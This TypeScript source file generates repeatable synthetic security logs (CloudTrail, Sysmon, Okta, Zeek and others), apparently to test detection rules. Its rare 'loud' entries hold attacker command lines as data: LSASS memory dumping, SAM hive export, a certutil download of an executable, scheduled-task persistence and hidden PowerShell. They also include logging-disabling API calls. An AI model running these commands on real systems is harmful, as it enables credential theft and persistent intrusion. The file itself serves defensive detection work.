/** Events of made-up companies, always the same for a seed: lanes that need no published data, and what witnesses are learned on. */
type JsonRecord = { readonly [key: string]: unknown };

/** A small generator of pseudo-random numbers (xorshift32): the same sequence on every machine. */
export class Dice {
  private state: number;

  constructor(seed: number) {
    this.state = Math.imul(seed + 1, 0x9e3779b1) >>> 0 || 1;
  }

  below(limit: number): number {
    let { state } = this;
    state ^= state << 13;
    state ^= state >>> 17;
    state ^= state << 5;
    this.state = state >>> 0;
    return this.state % limit;
  }

  pick<Item>(items: readonly Item[]): Item {
    return items[this.below(items.length)]!;
  }

  hex(length: number): string {
    return Array.from({ length }, () => "0123456789abcdef"[this.below(16)]).join("");
  }

  chance(perMille: number): boolean {
    return this.below(1000) < perMille;
  }
}

const QUIET_CALLS: readonly (readonly [string, string])[] = [
  ["ec2.amazonaws.com", "DescribeInstances"], ["ec2.amazonaws.com", "DescribeVolumes"], ["ec2.amazonaws.com", "DescribeTags"], ["sts.amazonaws.com", "AssumeRole"],
  ["s3.amazonaws.com", "GetBucketLocation"], ["s3.amazonaws.com", "GetObject"], ["kms.amazonaws.com", "Decrypt"], ["kms.amazonaws.com", "GenerateDataKey"],
  ["logs.amazonaws.com", "CreateLogStream"], ["monitoring.amazonaws.com", "DescribeAlarms"], ["dynamodb.amazonaws.com", "DescribeTable"], ["autoscaling.amazonaws.com", "DescribeAutoScalingGroups"],
  ["lambda.amazonaws.com", "ListFunctions20150331"], ["elasticloadbalancing.amazonaws.com", "DescribeTargetHealth"], ["sqs.amazonaws.com", "GetQueueAttributes"], ["ssm.amazonaws.com", "UpdateInstanceInformation"],
];
const LOUD_CALLS: readonly (readonly [string, string])[] = [
  ["cloudtrail.amazonaws.com", "StopLogging"], ["iam.amazonaws.com", "UpdateLoginProfile"], ["guardduty.amazonaws.com", "DeleteDetector"], ["config.amazonaws.com", "DeleteDeliveryChannel"],
];

/** CloudTrail as an account in ordinary use writes it: machines asking, now and then somebody doing something. */
export function cloudtrailEvent(dice: Dice, loudPerMille = 20): JsonRecord {
  const [eventSource, eventName] = dice.chance(loudPerMille) ? dice.pick(LOUD_CALLS) : dice.pick(QUIET_CALLS);
  const account = String(100_000_000_000 + dice.below(1_000_000));
  const role = dice.pick(["deploy", "monitoring", "backup-runner", "web-tier", "etl"]);
  const key = `ASIA${dice.hex(16).toUpperCase()}`;
  return {
    eventVersion: "1.08",
    userIdentity: {
      type: "IAMUser",
      principalId: `AIDA${dice.hex(17).toUpperCase()}`,
      arn: `arn:aws:iam::${account}:user/services/${role}/i-${dice.hex(17)}`,
      accountId: account,
      accessKeyId: key,
      userName: `${role}-i-${dice.hex(17)}`,
      sessionContext: {
        sessionIssuer: {},
        webIdFederationData: {},
        attributes: { creationDate: "2026-03-04T05:06:07Z", mfaAuthenticated: "false" },
        ec2RoleDelivery: "2.0",
      },
    },
    eventTime: `2026-03-04T05:${10 + dice.below(50)}:${10 + dice.below(50)}Z`,
    eventSource,
    eventName,
    awsRegion: dice.pick(["eu-central-1", "eu-west-1", "us-east-1"]),
    sourceIPAddress: `203.0.113.${dice.below(250)}`,
    userAgent: dice.pick(["aws-sdk-go/1.44.300 (go1.20.5; linux; amd64)", "Boto3/1.28.3 md/Botocore#1.31.3 ua/2.0 os/linux#5.10 lang/python#3.10", "autoscaling.amazonaws.com"]),
    requestParameters: { maxResults: dice.below(1000), filterSet: { items: [{ name: "resource-id", valueSet: { items: [{ value: `i-${dice.hex(17)}` }] } }] } },
    responseElements: null,
    requestID: `${dice.hex(8)}-${dice.hex(4)}-${dice.hex(4)}-${dice.hex(12)}`,
    eventID: `${dice.hex(8)}-${dice.hex(4)}-${dice.hex(4)}-${dice.hex(12)}`,
    readOnly: true,
    eventType: "AwsApiCall",
    managementEvent: true,
    recipientAccountId: account,
    eventCategory: "Management",
    tlsDetails: { tlsVersion: "TLSv1.3", cipherSuite: "TLS_AES_128_GCM_SHA256", clientProvidedHostHeader: eventSource.replace(".", ".eu-central-1.") },
  };
}

const PROGRAMS = ["C:\\Windows\\System32\\svchost.exe", "C:\\Program Files\\Contoso\\agent.exe", "C:\\Windows\\explorer.exe", "C:\\Windows\\System32\\conhost.exe", "C:\\Program Files\\Git\\cmd\\git.exe"];
const LOUD_COMMANDS: readonly (readonly [string, string])[] = [
  ["C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "powershell.exe -NoP -W Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA"],
  ["C:\\Windows\\System32\\whoami.exe", "whoami /priv /all"],
  ["C:\\Windows\\System32\\net.exe", "net group \"Domain Admins\" /domain"],
  ["C:\\Windows\\System32\\reg.exe", "reg save hklm\\sam C:\\Users\\Public\\sam.hiv"],
  ["C:\\Windows\\System32\\rundll32.exe", "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\lsass.dmp full"],
  ["C:\\Windows\\System32\\certutil.exe", "certutil.exe -urlcache -split -f http://203.0.113.7/a.exe C:\\Users\\Public\\a.exe"],
  ["C:\\Windows\\System32\\schtasks.exe", "schtasks /create /sc minute /mo 1 /tn upd /tr C:\\Users\\Public\\a.exe"],
];

/** A process start as Sysmon tells it; loud ones are what rules are written for. */
export function windowsEvent(dice: Dice, loudPerMille: number): JsonRecord {
  const loud = dice.chance(loudPerMille);
  const [image, commandLine] = loud ? dice.pick(LOUD_COMMANDS) : [dice.pick(PROGRAMS), `"${dice.pick(PROGRAMS)}" --task ${dice.below(100_000)} --name job${dice.below(900)}`];
  return {
    product: "windows",
    category: "process_creation",
    EventID: 1,
    Computer: `ws${dice.below(500)}.corp.example`,
    UtcTime: `2026-03-04 05:${10 + dice.below(50)}:${10 + dice.below(50)}.123`,
    ProcessGuid: `{${dice.hex(8)}-${dice.hex(4)}-${dice.hex(4)}-${dice.hex(4)}-${dice.hex(12)}}`,
    ProcessId: dice.below(65_536),
    Image: image,
    OriginalFileName: image.slice(image.lastIndexOf("\\") + 1),
    CommandLine: commandLine,
    CurrentDirectory: "C:\\Windows\\system32\\",
    User: `CORP\\user${dice.below(900)}`,
    IntegrityLevel: loud ? "High" : "Medium",
    Hashes: `SHA256=${dice.hex(64).toUpperCase()},IMPHASH=${dice.hex(32).toUpperCase()}`,
    ParentImage: loud ? "C:\\Windows\\System32\\cmd.exe" : "C:\\Windows\\System32\\services.exe",
    ParentCommandLine: loud ? "cmd.exe /c start" : "C:\\Windows\\system32\\services.exe",
  };
}

function linuxEvent(dice: Dice): JsonRecord {
  const image = dice.pick(["/usr/bin/ls", "/usr/bin/python3", "/usr/sbin/cron", "/usr/bin/curl", "/bin/bash"]);
  return { product: "linux", category: "process_creation", Image: image, CommandLine: `${image} --config /etc/app/${dice.below(500)}.conf`, User: dice.pick(["root", "www-data", "deploy"]), ParentImage: "/usr/lib/systemd/systemd", ProcessId: dice.below(65_536) };
}

function oktaEvent(dice: Dice): JsonRecord {
  return { product: "okta", service: "okta", eventtype: dice.pick(["user.session.start", "user.authentication.sso", "policy.evaluate_sign_on", "application.user_membership.add"]), outcome: { result: "SUCCESS" }, actor: { alternateId: `user${dice.below(900)}@example.com`, type: "User" }, client: { ipAddress: `198.51.100.${dice.below(250)}`, zone: "null" } };
}

function zeekEvent(dice: Dice): JsonRecord {
  return { product: "zeek", service: "dns", query: `host${dice.below(5000)}.example.org`, "id.orig_h": `10.0.${dice.below(250)}.${dice.below(250)}`, "id.resp_p": 53, qtype_name: "A", answers: [`192.0.2.${dice.below(250)}`], rejected: false };
}

/** Several systems at once, small records, few of them remarkable. */
export function mixedEvent(dice: Dice): JsonRecord {
  const choice = dice.below(6);
  if (choice === 0) return windowsEvent(dice, 50);
  if (choice === 1) return oktaEvent(dice);
  if (choice === 2) return zeekEvent(dice);
  if (choice === 3) return { product: "aws", service: "cloudtrail", eventSource: "ec2.amazonaws.com", eventName: "DescribeInstances", awsRegion: "eu-west-1", userIdentity: { type: "IAMUser", userName: `user${dice.below(900)}` }, requestID: dice.hex(32) };
  return choice === 4 ? linuxEvent(dice) : { product: "apache", category: "webserver", "cs-method": "GET", "cs-uri-stem": `/catalog/${dice.below(9000)}`, "cs-uri-query": `page=${dice.below(50)}`, "sc-status": 200, "cs-user-agent": "Mozilla/5.0 (X11; Linux x86_64)" };
}

/** Records of a product that rules exist for, and none of which matches. */
export function quietEvent(dice: Dice): JsonRecord {
  return { product: "zeek", service: "conn", ts: 1_772_600_000 + dice.below(100_000), uid: `C${dice.hex(17)}`, "id.orig_h": `10.1.${dice.below(250)}.${dice.below(250)}`, "id.orig_p": 1024 + dice.below(60_000), "id.resp_h": `192.0.2.${dice.below(250)}`, "id.resp_p": 443, proto: "tcp", conn_state: "SF", duration: dice.below(1000) / 100, orig_bytes: dice.below(100_000), resp_bytes: dice.below(900_000) };
}

export function shortEvent(dice: Dice): JsonRecord {
  return { product: "cisco", host: `sw${dice.below(90)}`, severity: 5, mnemonic: "UPDOWN", message: `Interface GigabitEthernet${dice.below(4)}/0/${dice.below(48)}, changed state to ${dice.pick(["up", "down"])}` };
}

export function linesOf(count: number, seed: number, make: (dice: Dice) => JsonRecord): string[] {
  const dice = new Dice(seed);
  return Array.from({ length: count }, () => JSON.stringify(make(dice)));
}
